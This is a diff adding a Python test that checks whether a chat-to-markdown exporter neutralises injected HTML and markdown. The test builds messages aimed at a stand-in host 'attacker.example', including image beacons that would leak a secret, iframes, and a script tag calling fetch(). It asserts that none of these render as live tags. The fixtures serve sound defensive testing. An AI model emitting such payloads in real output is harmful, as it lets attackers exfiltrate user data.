@@ -96,3 +96,29 @@ def test_markdown_is_readable() -> None:
     assert '## Observation · `get_weather`\n\n```text\n{"sky": "sunny"}\n```' in markdown
     assert "## Assistant (interrupted)\n\nIt is sun" in markdown
     assert markdown.endswith("```text\ntwo plots\n```\n\n[Image]\n\n[Image]\n")
+
+
+def test_markdown_export_has_no_raw_html_and_loads_nothing() -> None:
+    """An exported file is opened in other viewers (which may render HTML): it must fetch nothing."""
+    from markdown_it import MarkdownIt
+
+    attacker = "https://attacker.example"
+    messages = [
+        Message.user(f"Summarise this file ![u]({attacker}/user.png)"),
+        Message.assistant(
+            f'Sure <img src="{attacker}/html.png"> ![x]({attacker}/p.png?d=SECRET) [more][r]\n\n[r]: {attacker}/ref',
+            [ToolCall("get_weather", {"city": f"![c]({attacker}/arg.png)"}, id="call_1")],
+        ),
+        Message.observation(f"<script>fetch('{attacker}')</script>", name="get_weather", tool_call_id="call_1"),
+        Message.assistant(f"<div>\n<iframe src={attacker}/frame></iframe>\n</div>\n\n`![code]({attacker}/c.png)`"),
+    ]
+    markdown = to_markdown(Conversation("id", "chat", f"Imported ![t]({attacker}/title.png)", messages))
+
+    viewer = MarkdownIt("commonmark", {"html": True}).enable("table")
+    viewer.validateLink = lambda url: True  # a permissive viewer: every scheme
+    html = viewer.render(markdown)
+    for tag in ("<img", "<a ", "<iframe", "<script", "<div"):
+        assert tag not in html, tag
+    assert "d=SECRET" in html and "&lt;img src=" in html  # shown as text, not lost
+    assert f"`![code]({attacker}/c.png)`" in markdown  # code spans stay verbatim
+    assert f"```text\n<script>fetch('{attacker}')</script>\n```" in markdown  # tool output stays a code block
